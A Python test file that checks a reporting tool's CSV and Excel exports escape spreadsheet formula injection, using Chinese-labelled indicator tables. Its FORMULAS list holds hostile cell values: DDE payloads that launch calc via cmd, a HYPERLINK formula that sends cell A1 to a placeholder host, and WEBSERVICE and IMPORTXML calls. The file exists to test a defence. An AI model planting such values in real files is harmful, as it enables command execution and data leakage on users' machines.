"""What a spreadsheet program might run: texts of forms that are formulas, in everything that is opened with one.

Reports, copies, batches and the library have tests of their own; docs/security.md lists them.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from corpus.formulas import as_text
from service.operations.export import export_tables
from tests.safety.conftest import Service
from tests.service.conftest import Run

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)*cmd|'x'!A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "＝WEBSERVICE（A1）",
    "\t=1+IMPORTXML(A1)",
    "=[外.xlsx]表!A1",
)
HEADINGS = "一级指标,二级指标,三级指标,指标值"


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    path = tmp_path / "表.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(HEADINGS.split(","))
        for formula in FORMULAS:
            writer.writerow(["产出指标", "数量指标", f"{formula}", "=100%"])
    return path


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def runs(cell: str) -> bool:
    """Whether a spreadsheet program takes a cell of csv for a formula that does more than compute a number."""
    bare = cell.lstrip()
    return bare[:1] in "=+-@＝＋－＠" and any(sign in bare for sign in "(（|!！[") if bare else False


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula: str) -> None:
    assert runs(formula)
    assert as_text(formula) == f"'{formula}"
    assert as_text(as_text(formula)) == as_text(formula)


@pytest.mark.parametrize("cell", ["=100%", "-5", "+10%", "≥90%", "-", "——", "@", "=0元", "0371-66881234", "（一）", ""])
def test_targets_and_plain_texts_stay_as_they_are(cell: str) -> None:
    assert as_text(cell) == cell


@given(st.text(alphabet="=+-@＝ \t\n(|![A1\"'，"))
def test_no_text_runs_once_it_is_written(text: str) -> None:
    assert not runs(as_text(text))


def test_csv_of_read_and_classify_holds_no_formula(run: Run, hostile: Path, tmp_path: Path) -> None:
    run("read", hostile, "-o", tmp_path / "读.csv")
    run("classify", hostile, "-o", tmp_path / "判.csv")
    texts = [(tmp_path / name).read_text("utf-8") for name in ("读.csv", "判.csv")]
    texts.append(run("read", hostile, "--format", "csv").out)
    for text in texts:
        cells = cells_of(text)
        assert "=100%" in cells
        assert any("HYPERLINK" in cell for cell in cells)
        assert [cell for cell in cells if runs(cell)] == []


def formula_cells(path: Path) -> list[Any]:
    book = load_workbook(path)
    return [cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_workbooks_of_read_classify_and_audit_hold_no_formula(run: Run, hostile: Path, tmp_path: Path) -> None:
    for command in ("read", "classify", "audit"):
        path = tmp_path / f"{command}.xlsx"
        assert run(command, hostile, "-o", path).code == 0
        assert formula_cells(path) == []


def test_the_export_of_the_service_holds_no_formula(pages: Service, tmp_path: Path) -> None:
    from service.store.tables import Submission, new_id

    with pages.office.database.write() as session:
        session.add_all(Submission(id=new_id(), title=formula[:200], created_by="x") for formula in FORMULAS)
    written = export_tables(pages.office, tmp_path, "xlsx")
    paths = {tmp_path / path if not Path(path).is_absolute() else Path(path) for one in written for path in one.paths}
    assert paths
    for path in paths:
        assert formula_cells(path) == []
